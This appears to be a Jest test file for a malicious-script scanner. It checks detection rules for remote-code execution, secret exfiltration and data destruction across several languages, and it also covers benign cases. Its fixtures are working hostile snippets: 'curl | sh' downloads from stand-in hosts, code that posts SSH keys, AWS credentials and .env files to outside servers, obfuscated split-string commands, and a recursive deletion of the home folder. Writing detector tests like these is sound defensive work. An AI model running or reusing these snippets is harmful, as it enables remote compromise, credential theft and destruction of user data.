import { expect, test } from '@jest/globals';
import { analyse } from '../../analyse.js';

async function rulesOf(path: string, text: string): Promise<readonly string[]> {
  const file = { path, mode: 0o644, content: Buffer.from(text), role: 'script' as const };
  const { findings } = await analyse([file]);
  return findings
    .filter(({ severity }) => severity === 'HIGH' || severity === 'CRITICAL')
    .map(({ rule }) => rule);
}

test.each([
  ['a.rb', "require 'open-uri'\neval(URI.open('https://cdn.run-tools.top/a.rb').read)\n"],
  ['a.php', "<?php\n$c = file_get_contents('http://45.9.148.3/u');\nshell_exec($c);\n"],
  ['a.pl', 'use LWP::Simple;\nmy $x = get("https://cdn.run-tools.top/a");\neval $x;\n'],
  [
    'a.applescript',
    'do shell script "curl -s http://45.9.148.3/x | sh" with administrator privileges\n',
  ],
  ['a.c', 'int main() {\n  system("curl -s http://45.9.148.3/x | sh");\n}\n'],
  [
    'a.rs',
    'fn main() {\n  Command::new("sh")\n    .arg("-c")\n    .arg("curl -s http://45.9.148.3/x | sh")\n    .status();\n}\n',
  ],
  [
    'a.go',
    'r, _ := http.Get("https://cdn.run-tools.top/x")\nf, _ := os.Create("/tmp/.s")\nio.Copy(f, r.Body)\nexec.Command("/tmp/.s").Run()\n',
  ],
])('%s runs what it fetches', async (path, text) => {
  expect(await rulesOf(path, text)).toContain('fetch-execute/remote-code');
});

test.each([
  [
    'a.rb',
    "key = File.read(File.expand_path('~/.ssh/id_ed25519'))\nNet::HTTP.post(URI('https://hooks.run-tools.top/n'), key)\n",
  ],
  [
    'a.go',
    'b, _ := os.ReadFile(os.Getenv("HOME") + "/.aws/credentials")\nhttp.Post("https://m.run-tools.top/v1", "text/plain", bytes.NewBuffer(b))\n',
  ],
  [
    'a.php',
    "<?php\n$d = file_get_contents(getenv('HOME').'/.aws/credentials');\n$ch = curl_init('https://m.run-tools.top/r');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $d);\ncurl_exec($ch);\n",
  ],
])('%s sends a secret', async (path, text) => {
  expect(await rulesOf(path, text)).toContain('exfiltration/secret-sent');
});

test.each([
  [
    'the parts of a list of Go',
    'a.go',
    'parts := []string{"curl -s ", "http://45.9.148.3/x", " | sh"}\nexec.Command("sh", "-c", strings.Join(parts, "")).Run()\n',
  ],
  [
    'the parts of a list of Java',
    'a.java',
    'String[] parts = {"curl -s ", "http://45.9.148.3/x", " | sh"};\nnew ProcessBuilder("sh", "-c", String.join("", parts)).start();\n',
  ],
  [
    'words of Ruby',
    'a.rb',
    "parts = %w[curl -s http://45.9.148.3/x]\nsystem(parts.join(' ') + ' | sh')\n",
  ],
  [
    'words of Perl',
    'a.pl',
    "my @parts = qw(curl -s http://45.9.148.3/x);\nsystem(join(' ', @parts) . ' | sh');\n",
  ],
  [
    'a list of PHP',
    'a.php',
    "<?php\n$parts = array('curl -s', 'http://45.9.148.3/x', '| sh');\nsystem(implode(' ', $parts));\n",
  ],
  [
    'a function that a call is given',
    'b.php',
    "<?php\nadd_action('init', function ($request) {\n  $c = file_get_contents('http://45.9.148.3/u');\n  eval($c);\n});\n",
  ],
])('%s make a command', async (_name, path, text) => {
  expect(await rulesOf(path, text)).toContain('fetch-execute/remote-code');
});

test.each([
  [
    'a.rb',
    "found = %w[.env config/master.key].map do |path|\n  [path, File.read(path)] if File.exist?(path)\nend\nNet::HTTP.post(URI('https://m.run-tools.top/r'), { found: found.to_h }.to_json)\n",
  ],
  [
    'b.rb',
    "['.env'].each { |path| Net::HTTP.post(URI('https://m.run-tools.top/r'), File.read(path)) }\n",
  ],
  [
    'a.php',
    "<?php\nforeach (['.env', '/root/.aws/credentials'] as $path) {\n  $d = file_get_contents($path);\n  $ch = curl_init('https://m.run-tools.top/r');\n  curl_setopt($ch, CURLOPT_POSTFIELDS, $d);\n}\n",
  ],
  [
    'a.go',
    'for _, path := range []string{"/root/.ssh/id_rsa", ".env"} {\n  b, _ := os.ReadFile(path)\n  http.Post("https://m.run-tools.top/v1", "text/plain", bytes.NewBuffer(b))\n}\n',
  ],
  [
    'a.java',
    'for (String p : List.of("/root/.ssh/id_rsa", ".env")) {\n  String s = Files.readString(Path.of(p));\n  HttpRequest.newBuilder(URI.create("https://m.run-tools.top/v1")).POST(BodyPublishers.ofString(s));\n}\n',
  ],
  [
    'a.rs',
    'fn main() {\n  if let Ok(found) = fs::read_to_string("/root/.cargo/credentials.toml") {\n    Command::new("curl").args(["--data-binary", &found, "https://m.run-tools.top/v1"]).spawn();\n  }\n}\n',
  ],
])('%s goes through a list of secrets and sends them', async (path, text) => {
  expect(await rulesOf(path, text)).toContain('exfiltration/secret-sent');
});

test('a folder of the user that is removed', async () => {
  const text = "FileUtils.rm_rf(Dir.glob(File.expand_path('~/*')))\n";
  expect(await rulesOf('Rakefile', text)).toEqual(['destruction/data-deleted']);
});

test.each([
  ['a.rb', "body = File.read('CHANGELOG.md')\nNet::HTTP.post(URI(ENV.fetch('URL')), body)\n"],
  ['a.go', 'r, _ := http.Get("http://localhost:8080/health")\nfmt.Println(r.StatusCode)\n'],
  ['a.rs', 'fn main() {\n  Command::new("git").arg("status").output();\n}\n'],
  ['a.php', '<?php\n# curl http://45.9.148.3/x | sh\necho \'eval(get("http://45.9.148.3"))\';\n'],
  [
    'b.go',
    'parts := []string{"git", "diff", "--name-only"}\nexec.Command("sh", "-c", strings.Join(parts, " ")).Run()\n',
  ],
  [
    'b.php',
    "<?php\nadd_action('init', function ($request) {\n  $name = sanitize_text_field($request->get_param('name'));\n  return ['name' => $name];\n});\n",
  ],
  [
    'b.rb',
    "%w[README.md NEWS.md].each do |path|\n  Net::HTTP.post(URI('https://docs.some-vendor.io/v1'), File.read(path))\nend\n",
  ],
  ['Rakefile', "task(:clean) { FileUtils.rm_rf('build') }\n"],
  ['a.java', 'String s = Files.readString(Path.of("build", "m.txt"));\nSystem.out.println(s);\n'],
])('%s is innocent', async (path, text) => {
  expect(await rulesOf(path, text)).toEqual([]);
});

test('long and broken programs are read in time that grows with their length', async () => {
  for (const piece of [
    'qq{',
    "'",
    '(',
    'a.b.c(',
    '"#{',
    '/*',
    'x = y\n',
    'system ',
    '{',
    '({',
    '[]string{',
    'for x in ',
    '%w[a ',
    '}',
  ])
    expect(await rulesOf('a.rb', piece.repeat(50_000))).toEqual([]);
});
